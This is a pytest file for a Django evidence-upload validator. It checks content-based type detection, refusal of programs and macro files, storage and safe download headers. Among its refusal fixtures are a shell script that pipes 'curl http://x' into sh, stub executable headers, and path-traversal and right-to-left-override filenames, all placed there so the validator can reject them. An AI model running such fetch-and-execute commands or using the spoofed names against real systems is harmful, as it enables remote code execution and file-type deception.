"""Evidence uploads: detection by content, refusals, streamed storage and safe downloads.

Every file here is a real file built in the test (Pillow, openpyxl, hand-made ZIPs) and goes
through Django's real FileSystemStorage in a temporary MEDIA_ROOT.
"""

from __future__ import annotations

import hashlib
import io
import random
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.exceptions import ImproperlyConfigured, ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import (
    SimpleUploadedFile,
    TemporaryUploadedFile,
    UploadedFile,
)
from django.utils import translation
from PIL import Image

from kinerja.common.uploads import zipdir
from kinerja.common.uploads.display import display_name, format_size
from kinerja.common.uploads.downloads import download_response, open_for_download
from kinerja.common.uploads.kinds import KINDS, allowed_kinds, get_kind, kind_for_content_type
from kinerja.common.uploads.storage import accept_upload, store_upload
from kinerja.common.uploads.validation import validate_upload

MB = 1024 * 1024
STORED_NAME = re.compile(r"^evidence/\d{4}/\d{2}/[A-Za-z0-9_-]{32}\.(?P<ext>[a-z0-9]+)$")


# --- Real files -----------------------------------------------------------------------------


def pdf_bytes(text: str = "Laporan") -> bytes:
    """A minimal but valid one-page PDF (correct xref offsets)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    ]
    stream = f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode()
    objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def image_bytes(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, format=fmt)
    return buffer.getvalue()


def zip_bytes(entries: list[tuple[str, bytes]]) -> bytes:
    """A ZIP of ``entries`` in order; a leading `mimetype` is stored uncompressed, as ODF says."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=method)
    return buffer.getvalue()


RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOC_REL = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
)


def ooxml_bytes(main_part: str, main_type: str, body: bytes, extra=()) -> bytes:
    """An Office Open XML package with the parts Word/PowerPoint need to find the main part."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
        "</Types>"
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{OFFICE_DOC_REL}" Target="{main_part}"/>'
        "</Relationships>"
    )
    return zip_bytes(
        [
            ("[Content_Types].xml", content_types.encode()),
            ("_rels/.rels", rels.encode()),
            (main_part, body),
            *extra,
        ]
    )


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_BODY = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Laporan</w:t></w:r></w:p></w:body></w:document>"
)


def docx_bytes() -> bytes:
    return ooxml_bytes("word/document.xml", WORD_MAIN, WORD_BODY)


def docm_bytes() -> bytes:
    """A macro-enabled Word file, as it looks when someone renames .docm to .docx."""
    return ooxml_bytes(
        "word/document.xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        WORD_BODY,
        extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64)],
    )


def pptx_bytes() -> bytes:
    return ooxml_bytes(
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        b'<?xml version="1.0" encoding="UTF-8"?><p:presentation '
        b'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
    )


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Indikator"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odf_bytes(mimetype: str, *, mimetype_first: bool = True) -> bytes:
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="{mimetype}"/></manifest:manifest>'
    ).encode()
    content = b'<?xml version="1.0" encoding="UTF-8"?><office:document-content/>'
    entries = [("content.xml", content), ("META-INF/manifest.xml", manifest)]
    mimetype_entry = ("mimetype", mimetype.encode())
    if mimetype_first:
        return zip_bytes([mimetype_entry, *entries])
    return zip_bytes([*entries, mimetype_entry])


def mp4_bytes(brand: bytes = b"isom") -> bytes:
    """An ISO-BMFF header as cameras write it: `ftyp` box, then `free` and an empty `mdat`."""
    ftyp = b"ftyp" + brand + b"\x00\x00\x02\x00" + brand + b"iso2mp41"
    return (
        (len(ftyp) + 4).to_bytes(4, "big")
        + ftyp
        + b"\x00\x00\x00\x08free"
        + b"\x00\x00\x00\x10mdat"
        + b"\x00" * 8
    )


def pe_bytes() -> bytes:
    """A Windows PE header: 'MZ' DOS stub pointing at a 'PE' signature."""
    header = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 50)
    header[0x3C:0x40] = (0x80).to_bytes(4, "little")
    return bytes(header.ljust(0x80, b"\0")) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 200


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + b"\x02\x00\x3e\x00" + b"\0" * 200


def random_bytes() -> bytes:
    return random.Random(7).randbytes(4096).replace(b"PK", b"pk")  # not even a ZIP by chance


def plain_zip_bytes() -> bytes:
    return zip_bytes([("catatan.txt", b"bukan dokumen kantor"), ("foto/1.txt", b"x")])


def apk_bytes() -> bytes:
    return zip_bytes([("AndroidManifest.xml", b"\x03\x00\x08\x00"), ("classes.dex", b"dex\n035")])


ACCEPTED = [
    ("pdf", pdf_bytes),
    ("jpeg", lambda: image_bytes("JPEG")),
    ("png", lambda: image_bytes("PNG")),
    ("webp", lambda: image_bytes("WEBP")),
    ("docx", docx_bytes),
    ("xlsx", xlsx_bytes),
    ("pptx", pptx_bytes),
    ("odt", lambda: odf_bytes("application/vnd.oasis.opendocument.text")),
    ("ods", lambda: odf_bytes("application/vnd.oasis.opendocument.spreadsheet")),
    ("odp", lambda: odf_bytes("application/vnd.oasis.opendocument.presentation")),
    ("mp4", mp4_bytes),
]


# --- Fixtures and helpers -------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path) -> Path:
    """A fresh MEDIA_ROOT behind the default FileSystemStorage; upload temp files next to it."""
    root = tmp_path / "media"
    root.mkdir()
    (tmp_path / "upload-tmp").mkdir()
    settings.MEDIA_ROOT = str(root)
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "upload-tmp")
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(root)},
        },
    }
    settings.KINERJA_UPLOAD_MAX_BYTES = 20 * MB
    return root


def stored_files(root: Path) -> list[Path]:
    return sorted(path for path in root.rglob("*") if path.is_file())


def temporary_upload(name: str, chunks: list[bytes]) -> TemporaryUploadedFile:
    """A TemporaryUploadedFile as Django's upload handler leaves it (on disk, position 0)."""
    upload = TemporaryUploadedFile(name, "application/octet-stream", 0, None)
    for chunk in chunks:
        upload.write(chunk)
    upload.flush()
    upload.size = upload.file.tell()
    upload.seek(0)
    return upload


def refusal(upload, **kwargs) -> ValidationError:
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        validate_upload(upload, **kwargs)
    return caught.value


class UnreadableFile(io.BytesIO):
    """A file that fails if read: proves a check was made without reading the content."""

    def read(self, *args):
        raise AssertionError("the content was read")


# --- The registry ---------------------------------------------------------------------------


def test_kinds_registry_codes_extensions_and_types_are_consistent():
    # Arrange
    content_types = [kind.content_type for kind in KINDS.values()]

    # Act
    mismatched = [code for code, kind in KINDS.items() if kind.code != code]
    bad_extensions = [
        ext for kind in KINDS.values() for ext in kind.extensions if not re.match(r"^\.\w+$", ext)
    ]

    # Assert
    assert mismatched == []
    assert bad_extensions == []
    assert len(set(content_types)) == len(content_types)
    assert {k for k, kind in KINDS.items() if kind.inline} == {"pdf", "jpeg", "png", "webp"}


def test_get_kind_jpg_alias_is_jpeg():
    assert get_kind("jpg") is KINDS["jpeg"]
    assert get_kind("pdf").extension == ".pdf"


def test_kind_for_content_type_known_and_unknown():
    assert kind_for_content_type("application/pdf") is KINDS["pdf"]
    assert kind_for_content_type("text/html") is None


def test_allowed_kinds_default_is_every_kind(settings):
    del settings.KINERJA_EVIDENCE_KINDS  # the attribute is optional; make sure it is absent

    assert allowed_kinds() == tuple(KINDS.values())
    assert allowed_kinds([]) == tuple(KINDS.values())


def test_allowed_kinds_default_comes_from_setting(settings):
    settings.KINERJA_EVIDENCE_KINDS = ["pdf", "jpg"]

    assert allowed_kinds() == (KINDS["pdf"], KINDS["jpeg"])


def test_allowed_kinds_unknown_code_is_a_programming_error():
    with pytest.raises(ValueError, match=r"unknown evidence kind\(s\) \['doc'\]"):
        allowed_kinds(["pdf", "doc"])


def test_allowed_kinds_unknown_code_in_setting_is_a_configuration_error(settings):
    settings.KINERJA_EVIDENCE_KINDS = ["pdf", "exe"]

    with pytest.raises(ImproperlyConfigured, match="KINERJA_EVIDENCE_KINDS"):
        allowed_kinds()


# --- Detection ------------------------------------------------------------------------------


@pytest.mark.parametrize(("code", "build"), ACCEPTED, ids=[code for code, _ in ACCEPTED])
def test_validate_upload_detects_kind_by_content_not_name(code, build):
    # Arrange: a name that says nothing
    upload = SimpleUploadedFile("berkas.bin", build())

    # Act
    kind = validate_upload(upload)

    # Assert
    assert kind is KINDS[code]
    assert upload.tell() == 0


def test_validate_upload_extension_mismatch_between_allowed_kinds_content_wins():
    upload = SimpleUploadedFile("foto.pdf", image_bytes("PNG"))

    kind = validate_upload(upload, allowed=["pdf", "png"])

    assert kind is KINDS["png"]


def test_validate_upload_jpg_alias_accepts_jpeg():
    upload = SimpleUploadedFile("foto.jpg", image_bytes("JPEG"))

    assert validate_upload(upload, allowed=["jpg"]) is KINDS["jpeg"]


def test_validate_upload_docx_main_part_declared_elsewhere_is_docx():
    # Arrange: not word/document.xml, but declared as the main document in [Content_Types].xml
    upload = SimpleUploadedFile("x.docx", ooxml_bytes("word/main.xml", WORD_MAIN, WORD_BODY))

    assert validate_upload(upload) is KINDS["docx"]


def test_validate_upload_default_allowed_kinds_from_setting(settings):
    settings.KINERJA_EVIDENCE_KINDS = ["pdf"]
    upload = SimpleUploadedFile("foto.png", image_bytes("PNG"))

    error = refusal(upload)

    assert error.code == "not_allowed"


def test_validate_upload_size_checked_before_reading(settings):
    # Arrange: the upload handler says 30 MB; reading the content would fail
    settings.KINERJA_UPLOAD_MAX_BYTES = 20 * MB
    upload = UploadedFile(UnreadableFile(b"%PDF-1.4"), name="besar.pdf", size=30 * MB)

    # Act
    error = refusal(upload)

    # Assert
    assert error.code == "too_large"
    assert error.messages == ["The file “besar.pdf” is 30 MB, larger than the limit of 20 MB."]


def test_validate_upload_refusal_leaves_position_at_start():
    upload = SimpleUploadedFile("x.pdf", pe_bytes())

    refusal(upload)

    assert upload.tell() == 0


def test_validate_upload_oversized_zip_directory_is_not_parsed(monkeypatch):
    # Arrange: a real DOCX whose directory is over a (lowered) limit
    monkeypatch.setattr(zipdir, "MAX_ZIP_DIRECTORY_BYTES", 100)
    upload = SimpleUploadedFile("x.docx", docx_bytes())

    error = refusal(upload)

    assert error.code == "unknown_type"


# --- Refusals: each its own code and message, nothing stored ----------------------------------

ALL_TYPES = (
    "PDF, JPEG, PNG, WebP, Word (DOCX), Excel (XLSX), PowerPoint (PPTX), "
    "OpenDocument Text (ODT), OpenDocument Spreadsheet (ODS), "
    "OpenDocument Presentation (ODP), MP4 video"
)
PROGRAM = (
    "The file “{}” is a program, not a document, whatever its name says. "
    "Programs cannot be uploaded."
)
UNKNOWN = "The content of “{}” is not a file type we recognise. Accepted types: {}."

REFUSALS = [
    ("empty", "kosong.pdf", lambda: b"", {}, "empty", "The file “kosong.pdf” is empty."),
    (
        "one-byte-over",
        "besar.pdf",
        lambda: pdf_bytes().ljust(1025, b"\n"),
        {"max_bytes": 1024},
        "too_large",
        "The file “besar.pdf” is 1.0 KB, larger than the limit of 1 KB.",
    ),
    ("pe-renamed-pdf", "laporan.pdf", pe_bytes, {}, "executable", PROGRAM.format("laporan.pdf")),
    ("elf", "data.xlsx", elf_bytes, {}, "executable", PROGRAM.format("data.xlsx")),
    (
        "mach-o",
        "foto.jpg",
        lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 64,
        {},
        "executable",
        PROGRAM.format("foto.jpg"),
    ),
    (
        "shell-script",
        "laporan.pdf",
        lambda: b"#!/bin/sh\ncurl http://x | sh\n",
        {},
        "executable",
        PROGRAM.format("laporan.pdf"),
    ),
    ("android-app", "foto.png", apk_bytes, {}, "executable", PROGRAM.format("foto.png")),
    (
        "java-archive",
        "data.xlsx",
        lambda: zip_bytes(
            [("META-INF/MANIFEST.MF", b"Main-Class: x.Main\n"), ("x/Main.class", b"")]
        ),
        {},
        "executable",
        PROGRAM.format("data.xlsx"),
    ),
    (
        "random-bytes",
        "laporan.pdf",
        random_bytes,
        {},
        "unknown_type",
        UNKNOWN.format("laporan.pdf", ALL_TYPES),
    ),
    (
        "plain-zip",
        "arsip.docx",
        plain_zip_bytes,
        {"allowed": ["docx", "xlsx"]},
        "unknown_type",
        UNKNOWN.format("arsip.docx", "Word (DOCX), Excel (XLSX)"),
    ),
    (
        "corrupt-zip",
        "rusak.xlsx",
        lambda: xlsx_bytes()[:300],
        {"allowed": ["xlsx"]},
        "unknown_type",
        UNKNOWN.format("rusak.xlsx", "Excel (XLSX)"),
    ),
    (
        "old-word-doc",
        "lama.doc",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
        {"allowed": ["pdf", "docx"]},
        "unknown_type",
        UNKNOWN.format("lama.doc", "PDF, Word (DOCX)"),
    ),
    (
        "odf-mimetype-not-first",
        "x.odt",
        lambda: odf_bytes("application/vnd.oasis.opendocument.text", mimetype_first=False),
        {"allowed": ["odt"]},
        "unknown_type",
        UNKNOWN.format("x.odt", "OpenDocument Text (ODT)"),
    ),
    (
        "quicktime-is-not-mp4",
        "video.mp4",
        lambda: mp4_bytes(brand=b"qt  ").replace(b"iso2mp41", b"qt  qt  "),
        {"allowed": ["mp4"]},
        "unknown_type",
        UNKNOWN.format("video.mp4", "MP4 video"),
    ),
    (
        "png-where-only-pdf",
        "foto.pdf",
        lambda: image_bytes("PNG"),
        {"allowed": ["pdf"]},
        "not_allowed",
        "The content of “foto.pdf” is PNG; only PDF can be uploaded here.",
    ),
    (
        "xlsx-where-pdf-or-docx",
        "data.pdf",
        xlsx_bytes,
        {"allowed": ["pdf", "docx"]},
        "not_allowed",
        "The content of “data.pdf” is Excel (XLSX); only PDF, Word (DOCX) can be uploaded here.",
    ),
    (
        "word-with-macros",
        "laporan.docx",
        docm_bytes,
        {},
        "macros",
        "The file “laporan.docx” contains macros (program code). "
        "Save it without macros and upload it again.",
    ),
]


@pytest.mark.parametrize(
    ("name", "build", "kwargs", "code", "message"),
    [case[1:] for case in REFUSALS],
    ids=[case[0] for case in REFUSALS],
)
def test_accept_upload_refusal_has_own_code_and_message_and_stores_nothing(
    media, name, build, kwargs, code, message
):
    # Arrange
    upload = SimpleUploadedFile(name, build())

    # Act
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        accept_upload(upload, prefix="evidence", **kwargs)

    # Assert
    assert caught.value.code == code
    assert caught.value.messages == [message]
    assert stored_files(media) == []


def test_accept_upload_refused_temporary_file_stays_in_place(media):
    # Arrange: a program on disk, as a large upload would be
    upload = temporary_upload("laporan.pdf", [pe_bytes()])

    # Act
    with pytest.raises(ValidationError) as caught:
        accept_upload(upload, prefix="evidence")

    # Assert
    assert caught.value.code == "executable"
    assert Path(upload.temporary_file_path()).is_file()
    assert stored_files(media) == []
    upload.close()


def test_accept_upload_unnamed_file_is_named_in_message(media):
    upload = UploadedFile(io.BytesIO(b""), name=None, size=0)

    with translation.override("en"), pytest.raises(ValidationError) as caught:
        accept_upload(upload, prefix="evidence")

    assert caught.value.messages == ["The file “(unnamed)” is empty."]


# --- Storing --------------------------------------------------------------------------------


def test_accept_upload_stores_hash_size_type_and_unguessable_name(media):
    # Arrange
    content = pdf_bytes()
    upload = SimpleUploadedFile("Laporan Kinerja 2024.pdf", content, content_type="text/html")

    # Act
    stored = accept_upload(upload, prefix="evidence")

    # Assert
    assert stored.sha256 == hashlib.sha256(content).hexdigest()
    assert stored.size == len(content)
    assert stored.content_type == "application/pdf"  # detected, not the browser's claim
    assert stored.original_name == "Laporan Kinerja 2024.pdf"
    assert STORED_NAME.match(stored.name).group("ext") == "pdf"
    assert "Laporan" not in stored.name and "Kinerja" not in stored.name
    assert stored_files(media) == [media / stored.name]
    assert (media / stored.name).read_bytes() == content


def test_store_upload_extension_comes_from_content(media):
    # Arrange: a PNG named .pdf, accepted because PNG is allowed
    upload = SimpleUploadedFile("foto.pdf", image_bytes("PNG"))
    kind = validate_upload(upload, allowed=["pdf", "png"])

    # Act
    stored = store_upload(upload, kind=kind, prefix="evidence")

    # Assert
    assert STORED_NAME.match(stored.name).group("ext") == "png"
    assert stored.content_type == "image/png"
    assert stored.original_name == "foto.pdf"


def test_store_upload_same_file_twice_keeps_both_revisions(media):
    content = docx_bytes()

    first = accept_upload(SimpleUploadedFile("sp.docx", content), prefix="evidence")
    second = accept_upload(SimpleUploadedFile("sp.docx", content), prefix="evidence")

    assert first.name != second.name
    assert first.sha256 == second.sha256
    assert stored_files(media) == sorted([media / first.name, media / second.name])


def test_store_upload_temporary_file_5mb_round_trips_byte_identical(media):
    # Arrange: 5 MB on disk, as Django's handler leaves anything over FILE_UPLOAD_MAX_MEMORY_SIZE
    rng = random.Random(5)
    chunks = [pdf_bytes()] + [rng.randbytes(MB) for _ in range(5)]
    content = b"".join(chunks)
    upload = temporary_upload("rekap.pdf", chunks)

    # Act
    stored = accept_upload(upload, prefix="evidence")
    upload.close()

    # Assert
    assert stored.size == len(content) > 5 * MB
    assert stored.sha256 == hashlib.sha256(content).hexdigest()
    with default_storage.open(stored.name, "rb") as saved:
        assert saved.read() == content


def test_store_upload_in_memory_5mb_round_trips_byte_identical(media):
    content = image_bytes("PNG") + random.Random(6).randbytes(5 * MB)
    upload = SimpleUploadedFile("peta.png", content)

    stored = accept_upload(upload, prefix="evidence")

    assert stored.sha256 == hashlib.sha256(content).hexdigest()
    assert (media / stored.name).read_bytes() == content


def test_store_upload_explicit_storage(tmp_path, media):
    from django.core.files.storage import FileSystemStorage

    other = FileSystemStorage(location=tmp_path / "other")
    upload = SimpleUploadedFile("x.pdf", pdf_bytes())

    stored = accept_upload(upload, prefix="evidence", storage=other)

    assert (tmp_path / "other" / stored.name).read_bytes() == pdf_bytes()
    assert stored_files(media) == []


@pytest.mark.parametrize("prefix", ["../evidence", "/evidence", "evidence//x", "", "bukti dukung"])
def test_store_upload_unsafe_prefix_refused(media, prefix):
    upload = SimpleUploadedFile("x.pdf", pdf_bytes())

    with pytest.raises(ValueError, match="unsafe storage prefix"):
        store_upload(upload, kind=KINDS["pdf"], prefix=prefix)

    assert stored_files(media) == []


def test_store_upload_nested_prefix(media):
    upload = SimpleUploadedFile("x.pdf", pdf_bytes())

    stored = store_upload(upload, kind=KINDS["pdf"], prefix="evidence/cycle-7")

    assert re.match(r"^evidence/cycle-7/\d{4}/\d{2}/[A-Za-z0-9_-]{32}\.pdf$", stored.name)


def test_store_upload_nameless_original_gets_fallback(media):
    upload = SimpleUploadedFile("\u202e", pdf_bytes())

    stored = store_upload(upload, kind=KINDS["pdf"], prefix="evidence")

    assert stored.original_name == "berkas.pdf"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Laporan Akhir.pdf", "Laporan Akhir.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\fakepath\\Rekap SKM.xlsx", "Rekap SKM.xlsx"),
        ("foto\u202egnp.exe", "fotognp.exe"),  # right-to-left override removed
        ("a\tb\n\x00c.pdf", "a b c.pdf"),
        ("  ..tersembunyi.pdf.  ", "tersembunyi.pdf"),
        ("Junrejo \u2013 inovasi \u2713.pdf", "Junrejo \u2013 inovasi \u2713.pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
        (None, ""),
    ],
)
def test_display_name_cases(raw, expected):
    assert display_name(raw) == expected


@pytest.mark.parametrize(
    ("size", "expected"),
    [
        (0, "0 B"),
        (1023, "1023 B"),
        (1536, "1.5 KB"),
        (20 * MB, "20 MB"),
        (20 * MB + 1, "20.0 MB"),
        (100 * MB, "100 MB"),
        (5 * 1024 * MB, "5 GB"),
    ],
)
def test_format_size_cases(size, expected):
    with translation.override("en"):
        assert format_size(size) == expected


# --- Downloads ------------------------------------------------------------------------------


def response_body(response) -> bytes:
    # Close the file, not the response: response.close() fires request_finished, which would
    # touch the database these tests do not use.
    with response.file_to_stream:
        return b"".join(response.streaming_content)


def test_download_response_pdf_inline_preview(media):
    # Arrange
    content = pdf_bytes()
    stored = accept_upload(SimpleUploadedFile("Laporan Akhir.pdf", content), prefix="evidence")

    # Act
    response = download_response(
        stored.name,
        content_type=stored.content_type,
        original_name=stored.original_name,
        inline=True,
    )

    # Assert
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        "inline; filename=\"Laporan Akhir.pdf\"; filename*=UTF-8''Laporan%20Akhir.pdf"
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private"
    assert response["Content-Length"] == str(len(content))
    assert response_body(response) == content


def test_download_response_docx_never_inline(media):
    content = docx_bytes()
    stored = accept_upload(SimpleUploadedFile("sp.docx", content), prefix="evidence")

    response = download_response(
        stored.name, content_type=stored.content_type, original_name="sp.docx", inline=True
    )

    assert response["Content-Disposition"] == (
        "attachment; filename=\"sp.docx\"; filename*=UTF-8''sp.docx"
    )
    assert response["Content-Type"] == KINDS["docx"].content_type
    assert response_body(response) == content


def test_download_response_unicode_name_has_ascii_fallback_and_filename_star(media):
    stored = accept_upload(SimpleUploadedFile("x.png", image_bytes("PNG")), prefix="evidence")

    response = download_response(
        stored.name,
        content_type="image/png",
        original_name='Foto "kegiatan" Mantrijeron é 报告.png',
        inline=False,
    )
    response.file_to_stream.close()

    assert response["Content-Disposition"] == (
        'attachment; filename="Foto _kegiatan_ Mantrijeron e.png"; '
        "filename*=UTF-8''Foto%20%22kegiatan%22%20Mantrijeron%20%C3%A9%20%E6%8A%A5%E5%91%8A.png"
    )


def test_download_response_name_gets_extension_of_content(media):
    stored = accept_upload(SimpleUploadedFile("foto.pdf", image_bytes("PNG")), prefix="evidence")

    response = download_response(
        stored.name, content_type=stored.content_type, original_name="foto.pdf", inline=False
    )
    response.file_to_stream.close()

    assert response["Content-Disposition"] == (
        "attachment; filename=\"foto.png\"; filename*=UTF-8''foto.png"
    )


def test_download_response_unknown_content_type_is_octet_stream_attachment(media):
    stored = accept_upload(SimpleUploadedFile("x.pdf", pdf_bytes()), prefix="evidence")

    response = download_response(
        stored.name, content_type="text/html", original_name="x.html", inline=True
    )
    response.file_to_stream.close()

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"x.html\"; filename*=UTF-8''x.html"
    )


def test_open_for_download_reads_stored_bytes(media):
    content = xlsx_bytes()
    stored = accept_upload(SimpleUploadedFile("data.xlsx", content), prefix="evidence")

    with open_for_download(stored.name) as opened:
        assert opened.read() == content


def test_open_for_download_missing_file_raises(media):
    with pytest.raises(FileNotFoundError):
        open_for_download("evidence/2024/01/tidak-ada.pdf")
